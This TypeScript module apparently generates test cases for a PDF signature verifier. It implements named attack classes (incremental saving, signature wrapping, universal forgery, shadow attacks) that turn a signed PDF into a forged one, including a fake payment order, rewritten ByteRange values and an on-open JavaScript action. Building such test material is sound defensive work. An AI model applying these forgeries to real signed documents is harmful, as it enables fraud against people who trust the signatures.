import { pagesOf } from './pdf/pages.ts'
import { PdfFile } from './pdf/pdf-file.ts'
import { contentsOf, signatureFields } from './pdf/signature-fields.ts'
import { PdfUpdate } from './pdf/update.ts'
import { dateString, name, PdfDict, PdfRef, PdfStream, textString, type PdfValue } from './pdf/values.ts'
import { writeObject, writeValue } from './pdf/write-value.ts'

/** Changes to a signed file that nobody may take for the signed file. Each takes the signed bytes. */
export type Attack = (signed: Buffer) => Buffer

const forged = () => new PdfStream(new PdfDict(), Buffer.from('BT /F1 24 Tf 72 700 Td (Chi 5.000.000.000 dong) Tj ET'))

function updated(bytes: Buffer, change: (update: PdfUpdate, file: PdfFile) => void): Buffer {
  const file = new PdfFile(bytes)
  const update = new PdfUpdate(file)
  change(update, file)
  return update.finish().bytes
}

const page = (file: PdfFile) => pagesOf(file, 1)[0]!
const contentRef = (file: PdfFile): PdfRef => {
  const held = page(file).dict.get('Contents')
  return (Array.isArray(held) ? held[0] : held) as PdfRef
}

/** Bytes of the first signature dictionary's range and contents, for rewriting in place. */
function firstSignature(bytes: Buffer) {
  const file = new PdfFile(bytes)
  const field = signatureFields(file).find((one) => one.value)!
  const contents = contentsOf(field.value!)!
  const range = (field.value!.get('ByteRange') as number[]).slice() as [number, number, number, number]
  const rangeAt = bytes.lastIndexOf('/ByteRange [', contents.start)
  return { file, field, contents, range, rangeAt }
}

function withRange(bytes: Buffer, range: string): Buffer {
  const { rangeAt } = firstSignature(bytes)
  const start = rangeAt + '/ByteRange ['.length
  const end = bytes.indexOf(']', start)
  const out = Buffer.from(bytes)
  out.write(range.padEnd(end - start).slice(0, end - start), start, 'latin1')
  return out
}

function annotation(file: PdfFile, entries: Record<string, PdfValue>): PdfDict {
  return new PdfDict({ Type: name('Annot'), Rect: [60, 60, 500, 780], P: page(file).ref, F: 4, ...entries })
}

function addAnnotation(bytes: Buffer, entries: Record<string, PdfValue>): Buffer {
  return updated(bytes, (update, file) => {
    const { ref, dict } = page(file)
    const added = update.add(annotation(file, entries))
    update.put(ref, dict.copy().set('Annots', [...(file.array(dict.get('Annots')) ?? []), added]))
  })
}

/** Incremental saving: the signed bytes stay, what is shown does not (Mladenov et al., 2019). */
export const incrementalSaving: Record<string, Attack> = {
  'page content replaced': (signed) => updated(signed, (update, file) => update.put(contentRef(file), forged())),
  'page replaced': (signed) =>
    updated(signed, (update, file) => {
      const { ref, dict } = page(file)
      update.put(ref, dict.copy().set('Contents', update.add(forged())))
    }),
  'objects without a cross-reference': (signed) =>
    Buffer.concat([signed, writeObject(contentRef(new PdfFile(signed)), forged())]),
  'objects and a trailer without a cross-reference': (signed) => {
    const file = new PdfFile(signed)
    const trailer = `trailer\n${writeValue(new PdfDict({ Root: file.rootRef, Size: file.nextNumber }))}\n`
    return Buffer.concat([signed, writeObject(contentRef(file), forged()), Buffer.from(`${trailer}%%EOF\n`)])
  },
  'a new catalogue': (signed) =>
    updated(signed, (update, file) => {
      const pages = update.reserve()
      const only = update.add(new PdfDict({ Type: name('Page'), Parent: pages, Contents: update.add(forged()) }))
      update.put(pages, new PdfDict({ Type: name('Pages'), Kids: [only], Count: 1 }))
      update.put(file.rootRef, file.catalog.copy().set('Pages', pages))
    }),
  'a page taken away': (signed) =>
    updated(signed, (update, file) => {
      const pages = file.catalog.get('Pages') as PdfRef
      update.put(pages, file.dict(pages)!.copy().set('Kids', []).set('Count', 0))
    }),
  'a script that runs on opening': (signed) =>
    updated(signed, (update, file) => {
      const action = new PdfDict({ S: name('JavaScript'), JS: textString('app.alert(1)') })
      update.put(file.rootRef, file.catalog.copy().set('OpenAction', action))
    }),
  'a stamp over the page': (signed) => addAnnotation(signed, { Subtype: name('Stamp') }),
  'a comment': (signed) => addAnnotation(signed, { Subtype: name('FreeText'), Contents: textString('khác') }),
  'a signature field without a signature': (signed) =>
    updated(signed, (update, file) => {
      const form = file.catalog.get('AcroForm') as PdfRef
      const dict = file.dict(form)!.copy()
      const field = new PdfDict({
        FT: name('Sig'),
        T: textString('x'),
        Subtype: name('Widget'),
        Rect: [0, 0, 600, 800],
      })
      dict.set('Fields', [...file.array(dict.get('Fields'))!, update.add(field)])
      update.put(form, dict)
    }),
  'the title changed': (signed) =>
    updated(signed, (update, file) => {
      const info = file.trailer.get('Info') as PdfRef
      update.put(info, file.dict(info)!.copy().set('Title', textString('Quyết định khác')))
    }),
  'bytes after the end': (signed) => Buffer.concat([signed, Buffer.from('\n1 0 obj\nnull\nendobj\n')]),
  'an object that no cross-reference lists': (signed) => {
    const { bytes } = splitUpdate(signed)
    return bytes
  },
  'the validation data are the page too': (signed) =>
    updated(signed, (update, file) => {
      const list = update.add([update.add(forged())])
      const { ref, dict } = page(file)
      update.put(ref, dict.copy().set('Contents', list))
      update.put(file.rootRef, file.catalog.copy().set('DSS', update.add(new PdfDict({ CRLs: list }))))
    }),
}

/** An allowed update (modification date) with an unlisted object in front of its own. */
function splitUpdate(signed: Buffer): { bytes: Buffer } {
  const file = new PdfFile(signed)
  const info = file.trailer.get('Info') as PdfRef
  const hidden = writeObject(contentRef(file), forged())
  const start = signed.length + hidden.length
  const object = writeObject(info, file.dict(info)!.copy().set('ModDate', dateString(new Date())))
  const xref = start + object.length
  const table = `xref\n${info.number} 1\n${String(start).padStart(10, '0')} 00000 n\r\ntrailer\n`
  const trailer = new PdfDict({ Size: file.nextNumber, Root: file.rootRef, Prev: file.startxref, Info: info })
  const id = file.trailer.get('ID')
  if (id) trailer.set('ID', id)
  const tail = Buffer.from(`${table}${writeValue(trailer)}\nstartxref\n${xref}\n%%EOF\n`, 'latin1')
  return { bytes: Buffer.concat([signed, hidden, object, tail]) }
}

/** Signature wrapping: the range no longer embraces what is shown. */
export const signatureWrapping: Record<string, Attack> = {
  'a range that leaves out more than the signature': (signed) => {
    const { range } = firstSignature(signed)
    return withRange(signed, `0 ${range[1] - 40} ${range[2] + 40} ${range[3] - 40}`)
  },
  'a range that does not begin at the beginning': (signed) => {
    const { range } = firstSignature(signed)
    return withRange(signed, `1 ${range[1] - 1} ${range[2]} ${range[3]}`)
  },
  'the second part moved behind other content': (signed) => {
    const { range, contents } = firstSignature(signed)
    const second = signed.subarray(range[2], range[2] + range[3])
    const between = Buffer.concat([Buffer.from('\n'), writeObject(contentRef(new PdfFile(signed)), forged())])
    const moved = Buffer.concat([signed.subarray(0, contents.end), second, between, second])
    return withRange(moved, `0 ${range[1]} ${moved.length - range[3]} ${range[3]}`)
  },
  'the signature copied into a second field': (signed) =>
    updated(signed, (update, file) => {
      const { field } = firstSignature(signed)
      update.put(contentRef(file), forged())
      const copy = update.add(field.value!.copy())
      const again = update.add(field.dict.copy().set('V', copy).set('T', textString('lần hai')))
      const form = file.catalog.get('AcroForm') as PdfRef
      const dict = file.dict(form)!.copy()
      update.put(form, dict.set('Fields', [...file.array(dict.get('Fields'))!, again]))
    }),
}

/** Universal signature forgery: what a careless verifier reads as "nothing wrong". */
export const universalForgery: Record<string, Attack> = {
  ...Object.fromEntries(
    ['', '0 0 0 0', '0', '-1 0 0 0', '0 99999999 0 99999999', 'null null null null', '[0 10] 5'].map((range) => [
      `the range “${range}”`,
      (signed: Buffer) => withRange(signed, range),
    ]),
  ),
  ...Object.fromEntries(
    (
      [
        ['Contents', undefined],
        ['Contents', null],
        ['ByteRange', undefined],
        ['SubFilter', undefined],
        ['SubFilter', name('adbe.x509.rsa_sha1')],
      ] as [string, PdfValue | undefined][]
    ).map(([key, value]) => [
      `${key} ${value === undefined ? 'missing' : writeValue(value)}`,
      (signed: Buffer) =>
        updated(signed, (update) => {
          const { field } = firstSignature(signed)
          const dict = field.value!.copy()
          if (value === undefined) dict.entries.delete(key)
          else dict.set(key, value)
          update.put(field.valueRef!, dict)
        }),
    ]),
  ),
  'contents of zeros': (signed) => {
    const { contents } = firstSignature(signed)
    const out = Buffer.from(signed)
    out.fill('0', contents.start + 1, contents.end - 1)
    return out
  },
  'bytes in the filling of the hole': (signed) => {
    const { contents } = firstSignature(signed)
    const out = Buffer.from(signed)
    out.write('f', contents.end - 5, 'latin1')
    return out
  },
}

/** Shadow attacks (Mainka et al., 2021): both documents are in the file that is signed. `prepare` comes before signing. */
export const shadows: Record<string, { prepare: (letter: Buffer) => Buffer; attack: Attack }> = {
  'hide: an overlay is taken away': {
    prepare: (letter) =>
      updated(letter, (update, file) => {
        const { ref, dict } = page(file)
        const overlay = update.add(new PdfStream(new PdfDict(), Buffer.from('1 1 1 rg 0 0 600 850 re f')))
        const held = dict.get('Contents')!
        update.put(ref, dict.copy().set('Contents', [...(Array.isArray(held) ? held : [held]), overlay]))
      }),
    attack: (signed) =>
      updated(signed, (update, file) => {
        const contents = file.array(page(file).dict.get('Contents'))!
        update.put(contents.at(-1) as PdfRef, new PdfStream(new PdfDict(), Buffer.from(' ')))
      }),
  },
  'replace: a font draws other letters': {
    prepare: (letter) => letter,
    attack: (signed) =>
      updated(signed, (update, file) => {
        const fonts = file.dict(file.dict(page(file).dict.get('Resources'))!.get('Font'))!
        const [first] = fonts.entries.values()
        update.put(
          first as PdfRef,
          new PdfDict({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('Courier') }),
        )
      }),
  },
  'replace: a form field shows another value': {
    prepare: (letter) => letter,
    attack: (signed) =>
      updated(signed, (update, file) => {
        const fields = file.array(file.dict(file.catalog.get('AcroForm'))!.get('Fields'))!
        const field = fields.find((one) => file.name(file.dict(one)!.get('FT')) === 'Tx') as PdfRef
        update.put(field, file.dict(field)!.copy().set('V', textString('Đồng ý')))
      }),
  },
  'hide and replace: the cross-reference turns to a hidden page': {
    prepare: (letter) => {
      // The hidden content bears the number of the shown one, and no cross-reference points at it.
      const hidden = writeObject(contentRef(new PdfFile(letter)), forged())
      return updated(letter, (update) => update.putWritten(update.reserve(), hidden))
    },
    attack: (signed) => {
      const file = new PdfFile(signed)
      const number = contentRef(file).number
      const at = signed.lastIndexOf(`${number} 0 obj\n`)
      const trailer = new PdfDict({ Size: file.nextNumber, Root: file.rootRef, Prev: file.startxref })
      for (const key of ['Info', 'ID']) if (file.trailer.has(key)) trailer.set(key, file.trailer.get(key)!)
      const table = `xref\n${number} 1\n${String(at).padStart(10, '0')} 00000 n\r\ntrailer\n${writeValue(trailer)}\n`
      return Buffer.concat([signed, Buffer.from(`${table}startxref\n${signed.length}\n%%EOF\n`, 'latin1')])
    },
  },
  'a reference to nothing gets an object': {
    prepare: (letter) =>
      updated(letter, (update, file) => {
        const { ref, dict } = page(file)
        const held = dict.get('Contents')!
        const nothing = new PdfRef(file.nextNumber + 50)
        update.put(ref, dict.copy().set('Contents', [...(Array.isArray(held) ? held : [held]), nothing]))
      }),
    attack: (signed) =>
      updated(signed, (update, file) => {
        const contents = file.array(page(file).dict.get('Contents'))!
        update.put(contents.at(-1) as PdfRef, forged())
      }),
  },
}

/** For certified files: annotations and a later signature that draws over the page (Mainka et al., 2021). */
export const onCertified: Record<string, Attack> = {
  'an annotation over the text': (signed) =>
    addAnnotation(signed, { Subtype: name('Stamp'), AP: new PdfDict({}), Contents: textString('khác') }),
}
